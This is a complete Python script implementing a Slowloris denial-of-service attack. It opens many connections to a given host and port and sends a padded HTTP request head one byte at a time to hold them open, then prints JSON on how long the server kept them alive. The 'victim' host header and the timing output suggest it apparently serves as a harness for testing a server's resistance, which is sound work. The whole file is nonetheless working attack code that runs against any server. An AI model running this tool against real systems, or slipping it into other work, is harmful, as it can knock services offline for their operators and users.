"""Slowloris, run inside a client host: COUNT connections to HOST:PORT that
send a request head one byte at a time, a byte every INTERVAL seconds, for
at most DURATION seconds.  Prints one JSON object: how many connected, and
how long the other side let them live (from each one's connect).

    python3 slowloris.py HOST PORT COUNT INTERVAL DURATION
"""

import json
import selectors
import socket
import sys
import time

HEAD = b'GET /slow HTTP/1.1\r\nHost: victim\r\n' + b'X-Pad: ' + b'a' * 4000


def main():
    host, port = sys.argv[1], int(sys.argv[2])
    count, interval, duration = int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5])
    sel = selectors.DefaultSelector()
    started = time.monotonic()
    conns = []
    refused = 0
    for _ in range(count):
        s = socket.socket()
        s.settimeout(5)
        try:
            s.connect((host, port))
        except OSError:
            refused += 1
            s.close()
            continue
        s.setblocking(False)
        conns.append({'sock': s, 'sent': 0, 'ended': None, 'at': time.monotonic() - started})
        sel.register(s, selectors.EVENT_READ, conns[-1])
    next_byte = time.monotonic()
    while time.monotonic() - started < duration:
        now = time.monotonic()
        if now >= next_byte:
            for c in conns:
                if c['ended'] is None and c['sent'] < len(HEAD):
                    try:
                        c['sock'].send(HEAD[c['sent']:c['sent'] + 1])
                        c['sent'] += 1
                    except OSError:
                        c['ended'] = now - started
            next_byte = now + interval
        for key, _ in sel.select(timeout=0.2):
            c = key.data
            try:
                data = c['sock'].recv(4096)
            except OSError:
                data = b''
            if not data:
                c['ended'] = time.monotonic() - started
                sel.unregister(c['sock'])
        if conns and all(c['ended'] is not None for c in conns):
            break
    lived = sorted(c['ended'] - c['at'] for c in conns if c['ended'] is not None)
    print(json.dumps({'connected': len(conns), 'refused': refused,
                      'ended': len(lived),
                      'livedMax': lived[-1] if lived else None,
                      'livedMin': lived[0] if lived else None,
                      'bytesSentMax': max((c['sent'] for c in conns), default=0),
                      'connectedWithin': conns[-1]['at'] if conns else None}))
    for c in conns:
        c['sock'].close()


if __name__ == '__main__':
    main()
